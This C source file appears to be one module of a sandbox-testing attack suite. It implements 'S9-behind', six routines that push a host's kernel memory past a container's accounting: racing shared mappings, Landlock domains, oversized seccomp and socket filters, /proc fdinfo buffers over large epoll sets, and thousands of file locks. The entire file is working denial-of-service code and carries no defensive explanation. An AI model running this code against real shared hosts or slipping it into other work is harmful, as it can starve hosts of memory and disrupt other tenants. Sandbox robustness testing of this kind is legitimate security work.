/* SPDX-License-Identifier: MIT */
/* Memory of the host that a box holds behind something small: S9, continued. */
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <sys/epoll.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>

#include "payload.h"

#define LATE (40 * MIB)
#define PAGE 4096

/* ---- A shared mapping that comes late, beside small ones that come and go ---- */

static atomic_int wanted, done;
static void *late;

static void stay_on(int processor)
{
        cpu_set_t set;

        CPU_ZERO(&set);
        CPU_SET(processor, &set);
        (void)sched_setaffinity(0, sizeof(set), &set);
}

static void *map_shared(size_t length)
{
        return mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
}

static void *spin(void *unused)
{
        (void)unused;
        stay_on(1);
        for (;;)
                ;
        return NULL;
}

static void *map_late(void *unused)
{
        struct sched_param none = { 0 };

        (void)unused;
        stay_on(1);
        (void)sched_setscheduler(0, SCHED_IDLE, &none);
        for (;;) {
                if (!wanted) {
                        usleep(500);
                        continue;
                }
                late = map_shared(LATE);
                wanted = 0;
                done = 1;
        }
        return NULL;
}

/* Map small ones until the large one is there. */
static void map_small(time_t end)
{
        void *small;

        done = 0;
        wanted = 1;
        do {
                small = map_shared(PAGE);
                usleep(150);
                if (small != MAP_FAILED)
                        munmap(small, PAGE);
        } while (!done && time(NULL) < end);
}

static long take_shared_late(long total)
{
        pthread_t thread;
        time_t end = time(NULL) + 8;
        long have = 0;

        stay_on(0);
        if (pthread_create(&thread, NULL, map_late, NULL) ||
            pthread_create(&thread, NULL, spin, NULL))
                return 0;
        while (have < total && time(NULL) < end) {
                void *probe;

                map_small(end);
                if (!done || late == MAP_FAILED)
                        continue;
                /* Is it taken for a small one? */
                probe = map_shared(LATE * 3 / 4);
                if (probe == MAP_FAILED) {
                        munmap(late, LATE);
                        continue;
                }
                munmap(probe, LATE * 3 / 4);
                memset(late, 1, LATE);
                (void)madvise(late, LATE, MADV_DONTNEED);
                have += LATE;
        }
        return have;
}

/* ---- A Landlock domain in the credentials of each descriptor ---- */

#define RULES 4096
#define RULE_SIZE 64
static int ruleset;

static int enter(void *unused)
{
        int fd;

        (void)unused;
        if (syscall(SYS_landlock_restrict_self, ruleset, 0) < 0)
                _exit(1);
        fd = open("/dev/null", O_RDONLY | O_CLOEXEC);
        _exit(fd < 0 ? 1 : 0);
}

static long take_domains(long total)
{
        static char stack[65536];
        struct {
                unsigned long files, net;
        } handled = { .net = 3 };
        struct {
                unsigned long access, port;
        } rule = { .access = 1 };
        long have = 0;

        ruleset = (int)syscall(SYS_landlock_create_ruleset, &handled, sizeof(handled), 0);
        if (ruleset < 0)
                return 0;
        for (rule.port = 1; rule.port <= RULES; rule.port++)
                if (syscall(SYS_landlock_add_rule, ruleset, 2, &rule, 0) < 0)
                        break;
        (void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
        for (; have < total; have += ((long)rule.port - 1) * RULE_SIZE) {
                int status = 1;
                pid_t pid = clone(enter, stack + sizeof(stack), CLONE_FILES | SIGCHLD, NULL);

                if (pid < 0 || waitpid(pid, &status, 0) < 0 || status != 0)
                        break;
        }
        return have;
}

/* ---- Filters: of threads that are not the first, and of sockets ---- */

#define FILTER_LENGTH 4096
#define FILTER_SIZE (FILTER_LENGTH * 8L)
static struct sock_filter instructions[FILTER_LENGTH];
static struct sock_fprog filter = { FILTER_LENGTH, instructions };
static atomic_long filtered;

static void fill_filter(void)
{
        for (unsigned i = 0; i < FILTER_LENGTH - 1; i++)
                instructions[i] = (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_IMM, i);
        instructions[0] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JA, FILTER_LENGTH - 2, 0, 0);
        instructions[FILTER_LENGTH - 1] =
                (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
}

static void *filter_thread(void *unused)
{
        (void)unused;
        for (int i = 0; i < 7; i++)
                if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &filter) == 0)
                        filtered += FILTER_SIZE;
        sleep(6);
        return NULL;
}

static long take_thread_filters(long total)
{
        pthread_attr_t small;
        pthread_t thread;

        fill_filter();
        (void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
        pthread_attr_init(&small);
        pthread_attr_setstacksize(&small, 65536);
        for (int i = 0; i < 100; i++)
                if (pthread_create(&thread, &small, filter_thread, NULL))
                        break;
        for (int i = 0; filtered < total && i < 30; i++)
                usleep(100000);
        return filtered;
}

/* A local socket, which is there in every box. */
static long take_socket_filters(long total)
{
        long have = 0;

        fill_filter();
        while (have < total) {
                int pair[2];

                if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0 ||
                    setsockopt(pair[0], SOL_SOCKET, SO_ATTACH_FILTER, &filter, sizeof(filter)) < 0)
                        break;
                have += FILTER_SIZE;
        }
        return have;
}

/* ---- Open files of /proc, and locks ---- */

/* Each keeps the buffer in which its whole text was made: a line for each file that a set of
 * epoll(7) watches. */
static long take_proc_files(long total)
{
        int set = epoll_create1(0), pair[2];
        struct epoll_event event = { .events = EPOLLIN };
        char path[64], byte;
        long have = 0, length = 0;

        for (int i = 0; i < 20 && pipe(pair) == 0; i++)
                for (int j = 400; j < 650; j++)
                        length += dup2(pair[0], j) >= 0 &&
                                                  epoll_ctl(set, EPOLL_CTL_ADD, j, &event) == 0
                                          ? 64
                                          : 0;
        for (int j = 400; j < 650; j++)
                close(j);
        snprintf(path, sizeof(path), "/proc/self/fdinfo/%d", set);
        for (; length > 0 && have < total; have += length) {
                int fd = open(path, O_RDONLY);

                if (fd < 0 || read(fd, &byte, 1) != 1)
                        break;
        }
        return have;
}

/* Many files, as the kernel goes through all of one; every second byte. */
static long take_file_locks(long total)
{
        time_t end = time(NULL) + 8;
        long have = 0;

        while (have < total && time(NULL) < end) {
                char path[] = "/tmp/locks.XXXXXX";
                int fd = mkstemp(path);
                struct flock lock = { .l_type = F_WRLCK, .l_whence = SEEK_SET, .l_len = 1 };

                if (fd < 0)
                        break;
                unlink(path);
                for (; lock.l_start < 2 * 600; lock.l_start += 2)
                        have += fcntl(fd, F_SETLK, &lock) == 0 ? 200 : 0;
        }
        return have;
}

static const struct memory_kind kinds[] = {
        { "shared-late", take_shared_late },       { "domains", take_domains },
        { "thread-filters", take_thread_filters }, { "socket-filters", take_socket_filters },
        { "proc-files", take_proc_files },         { "file-locks", take_file_locks },
};

static int s9_behind(int argc, char **argv)
{
        return take_kind(kinds, COUNT(kinds), argc, argv);
}

const struct attack attacks_memory3[] = {
        { "S9-behind", s9_behind },
        { NULL, NULL },
};
